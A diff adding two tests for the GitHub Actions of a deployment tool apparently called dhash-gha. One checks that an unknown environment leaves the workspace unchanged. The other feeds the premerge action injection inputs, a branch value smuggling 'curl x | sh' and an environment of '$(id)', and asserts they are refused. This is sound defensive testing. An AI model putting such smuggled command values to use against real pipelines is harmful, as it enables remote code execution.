@@ -338,3 +338,35 @@ def test_rollback_action_forced_restores_and_records_the_incident(
     assert run.outputs["incident-id"].startswith("INC-")
     assert not marker.exists()
     assert "### dhash-gha rollback: success" in run.summary
+
+
+def test_deploy_action_unknown_environment_changes_nothing(
+    example_workspace: Path, tmp_path: Path, base_env: dict[str, str]
+) -> None:
+    before = sorted(p.relative_to(example_workspace) for p in example_workspace.rglob("*"))
+    run = _run(
+        "actions/deploy/action.yml", {"environment": "qa"}, example_workspace, tmp_path, base_env
+    )
+    assert run.step("Check the configuration").outcome == "failure"
+    assert run.step("rollout").outcome == "skipped"
+    after = sorted(
+        p.relative_to(example_workspace)
+        for p in example_workspace.rglob("*")
+        if "logs" not in p.relative_to(example_workspace).parts
+    )
+    assert after == [p for p in before if "logs" not in p.parts]
+
+
+@pytest.mark.slow
+def test_premerge_action_hostile_branch_reaches_no_shell(
+    example_workspace: Path, tmp_path: Path, base_env: dict[str, str]
+) -> None:
+    run = _run(
+        "actions/premerge/action.yml",
+        {"branch": '"; curl x | sh; "', "environment": "$(id)"},
+        example_workspace,
+        tmp_path,
+        base_env,
+    )
+    assert run.outputs["result"] == "bad-input" and run.outputs["exit-code"] == "2"
+    assert not (tmp_path / "SHELL_REACHED").exists()
